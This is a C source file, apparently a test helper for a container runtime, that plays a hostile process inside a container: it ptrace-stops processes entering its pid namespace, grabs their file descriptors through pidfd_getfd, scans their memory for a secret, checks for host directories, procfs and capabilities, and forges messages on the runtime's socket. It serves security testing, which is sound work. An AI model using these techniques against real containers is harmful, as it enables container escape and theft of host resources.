/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * A hostile process in a container: takes what it can from every process that
 * appears in its pid namespace, until it is killed.
 *
 *   thief [-s] [-r] [-h|-H] [-f STEP:CODE:TEXT] MARKER HOST-PID ALLOWED-CAPS
 *   thief -v TARGET            the control: a process that enters carelessly
 *
 * MARKER is a file that only the host has; a directory of the host, or a procfs
 * of it through HOST-PID, is told by it. ALLOWED-CAPS is what a process in here
 * may hold, in hexadecimal; a number in the file /allowed replaces it. -s: also look for the word of the file /secret in
 * memory, in the upper-case it is not written in anywhere. -r: that a process has
 * the host's root is its program's own affair. -h: hold the first process that
 * is got hold of before it runs a program, for ever; -H: one that runs its program.
 * -f: have it say outside that it has failed in this way.
 *
 * Prints "up", "seen PID" for each process, "traced PID" for each that could be
 * stopped before it ran a program, and "loot WHAT" for what was got.
 */

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

#include "kernel/channel.h"

#define PROC_MAGIC   0x9fa0
#define WITHOUT_EXEC 0x40ul /* PF_FORKNOEXEC */

static const char *marker, *host_pid;
static unsigned long long allowed;
static bool wants_memory, root_is_fair, holds, holds_early;
static char secret[64];
static struct channel_message forged;

__attribute__((format(printf, 1, 2))) static void say(const char *format, ...)
{
	char line[512];
	va_list ap;
	int n;

	va_start(ap, format);
	n = vsnprintf(line, sizeof(line) - 1, format, ap);
	va_end(ap);
	line[n++] = '\n';
	(void)!write(1, line, (size_t)n);
}

static bool reaches(int dir, const char *before)
{
	char path[512];

	snprintf(path, sizeof(path), "%s%s", before, marker);
	return faccessat(dir, path, F_OK, 0) == 0;
}

static size_t read_file(pid_t pid, const char *name, char *buf, size_t size)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, buf, size - 1);
	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return n > 0 ? (size_t)n : 0;
}

static bool is_before_exec(pid_t pid)
{
	char text[1024], *at;

	if (!read_file(pid, "stat", text, sizeof(text)) || !(at = strrchr(text, ')')))
		return false;
	for (int i = 2; at && i < 9; i++)
		at = strchr(at + 1, ' ');
	return at && strtoul(at, NULL, 10) & WITHOUT_EXEC;
}

/* What a descriptor leads to. */
static void judge_fd(pid_t pid, int n, int fd)
{
	struct statfs fs;
	struct stat st;
	char way[64];

	if (fstat(fd, &st) < 0)
		return;
	if (S_ISDIR(st.st_mode)) {
		snprintf(way, sizeof(way), "../%s/root", host_pid);
		if (fstatfs(fd, &fs) == 0 && fs.f_type == PROC_MAGIC &&
		    (reaches(fd, way) || reaches(fd, way + 3)))
			say("loot procfs of the host, descriptor %d of %d", n, pid);
		else if (reaches(fd, "."))
			say("loot directory of the host, descriptor %d of %d", n, pid);
	} else if (n > 2 && !S_ISSOCK(st.st_mode) && !S_ISCHR(st.st_mode) && is_before_exec(pid)) {
		say("loot descriptor %d of %d, mode %o", n, pid, st.st_mode);
	}
}

static void take_fds(pid_t pid, int pidfd)
{
	for (int n = 0; n < 64; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);

		if (fd < 0 && (errno == EPERM || errno == ESRCH))
			return;
		if (fd < 0)
			continue;
		judge_fd(pid, n, fd);
		close(fd);
	}
}

static void take_link(pid_t pid, const char *name)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	if (!root_is_fair && reaches(AT_FDCWD, path))
		say("loot %s of %d", name, pid);
}

static bool is_sealed(int fd)
{
	const int wanted = F_SEAL_WRITE | F_SEAL_GROW | F_SEAL_SHRINK | F_SEAL_SEAL;
	int seals = fcntl(fd, F_GET_SEALS);

	return seals >= 0 && (seals & wanted) == wanted;
}

/* A file of the host that can be opened, if not the one in sealed memory. */
static void take_exe(pid_t pid)
{
	char path[64], link[512] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	/* Not of the process, which may run another program by now. */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	(void)!readlink(path, link, sizeof(link) - 1);
	if (!root_is_fair && !is_sealed(fd) && access(link, F_OK) < 0)
		say("loot exe of %d: %s", pid, link);
	close(fd);
}

static unsigned long long field(const char *text, const char *name)
{
	const char *at = strstr(text, name);

	return at ? strtoull(at + strlen(name), NULL, 16) : 0;
}

static void judge_caps(pid_t pid)
{
	unsigned long long held;
	char text[4096];
	int fd = open("/allowed", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (fd >= 0)
		close(fd);
	if (n > 0) {
		text[n] = '\0';
		allowed = strtoull(text, NULL, 16);
	}
	read_file(pid, "status", text, sizeof(text));
	held = field(text, "CapPrm:") | field(text, "CapEff:") | field(text, "CapBnd:") |
	       field(text, "CapInh:") | field(text, "CapAmb:");
	if (held & ~allowed)
		say("loot capabilities %llx of %d", held & ~allowed, pid);
}

static void look_into(pid_t pid, int mem, unsigned long from, unsigned long to)
{
	static char buf[1 << 20];

	for (; from < to; from += sizeof(buf) - sizeof(secret)) {
		size_t size = to - from < sizeof(buf) ? to - from : sizeof(buf);
		ssize_t n = pread(mem, buf, size, (off_t)from);

		if (n > 0 && memmem(buf, (size_t)n, secret, strlen(secret))) {
			say("loot memory of %d at %lx", pid, from);
			return;
		}
	}
}

static void take_memory(pid_t pid)
{
	unsigned long from, to;
	char path[64], line[512], mode[8];
	FILE *maps;
	int mem;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	mem = open(path, O_RDONLY);
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "r");
	while (mem >= 0 && maps && fgets(line, sizeof(line), maps))
		/* Not the shadow memory of a sanitizer. */
		if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) == 3 && mode[1] == 'w' &&
		    to - from < 64ul << 20)
			look_into(pid, mem, from, to);
	if (maps)
		fclose(maps);
	if (mem >= 0)
		close(mem);
}

static void take_all(pid_t pid, int pidfd)
{
	judge_caps(pid);
	take_fds(pid, pidfd);
	take_link(pid, "root");
	take_link(pid, "cwd");
	take_exe(pid);
}

/* Through the socket that it has for that. */
static void forge(pid_t pid, int pidfd)
{
	socklen_t size = sizeof(int);
	int type;

	for (int n = 3; n < 64; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);

		if (fd < 0)
			continue;
		/* Said first: whoever hears it may end before this process goes on. */
		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &size) == 0) {
			say("forged a word of %d", pid);
			send(fd, &forged, sizeof(forged), MSG_NOSIGNAL);
		}
		close(fd);
	}
}

/* Stopped, it has all the time. */
static void trace(pid_t pid, int pidfd)
{
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid ||
	    !WIFSTOPPED(status))
		return;
	if (is_before_exec(pid))
		say("traced %d", pid);
	take_all(pid, pidfd);
	if (wants_memory && is_before_exec(pid))
		take_memory(pid);
	if (forged.kind && is_before_exec(pid))
		forge(pid, pidfd);
	if (holds && is_before_exec(pid) == holds_early) {
		say("holding %d", pid);
		/* Its end too: nobody else can reap it. */
		for (;;)
			pause();
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void rob(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	if (pidfd < 0)
		return;
	say("seen %d", pid);
	take_all(pid, pidfd);
	trace(pid, pidfd);
	while (is_before_exec(pid))
		take_all(pid, pidfd);
	take_all(pid, pidfd);
	if (holds && !holds_early)
		trace(pid, pidfd);
	close(pidfd);
}

/* The number that was given last in this pid namespace. */
static pid_t last_pid(void)
{
	char text[128], *at;
	int fd = open("/proc/loadavg", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (fd >= 0)
		close(fd);
	text[n > 0 ? n : 0] = '\0';
	at = strrchr(text, ' ');
	return at ? atoi(at) : 0;
}

static _Noreturn void lie_in_wait(void)
{
	pid_t seen = last_pid();

	say("up");
	for (unsigned int i = 0;; i++) {
		if (kill(seen + 1, 0) == 0 || errno == EPERM)
			rob(++seen);
		else if (i % 1024 == 0 && last_pid() > seen)
			/* One that was gone before it was seen, or is about to be. */
			for (pid_t last = last_pid(); seen < last;)
				rob(++seen);
	}
}

/* Enters as one should not: with everything in hand, and undressing inside. */
static int be_careless(pid_t target)
{
	int host = open("/proc", O_PATH | O_DIRECTORY);
	int pidfd = (int)syscall(SYS_pidfd_open, target, 0);
	pid_t child;

	if (host < 0 || pidfd < 0 || setns(pidfd, CLONE_NEWPID | CLONE_NEWNS) < 0)
		return 1;
	child = fork();
	if (child == 0)
		for (;;)
			pause();
	/* A pid namespace does not end before its processes are reaped. */
	return child < 0 || waitpid(child, NULL, 0) < 0;
}

static void parse_forged(const char *text)
{
	char *end;

	forged.kind = CHANNEL_ERROR;
	forged.err.step = (unsigned int)strtoul(text, &end, 10);
	forged.err.code = (int)strtol(end + 1, &end, 10);
	snprintf(forged.err.text, sizeof(forged.err.text), "%s", end + 1);
}

int main(int argc, char **argv)
{
	FILE *file;
	int option;

	while ((option = getopt(argc, argv, "srhHf:v:")) > 0) {
		if (option == 'v')
			return be_careless(atoi(optarg));
		wants_memory |= option == 's';
		root_is_fair |= option == 'r';
		holds |= option == 'h' || option == 'H';
		holds_early |= option == 'h';
		if (option == 'f')
			parse_forged(optarg);
	}
	if (argc - optind != 3)
		return 2;
	/* Should nobody end it, because the test itself was killed. */
	alarm(900);
	marker = argv[optind];
	host_pid = argv[optind + 1];
	allowed = strtoull(argv[optind + 2], NULL, 16);
	if (wants_memory) {
		file = fopen("/secret", "r");
		if (!file || !fgets(secret, sizeof(secret), file))
			return 1;
		secret[strcspn(secret, "\n")] = '\0';
		for (char *c = secret; *c; c++)
			*c = (char)toupper(*c);
	}
	lie_in_wait();
}
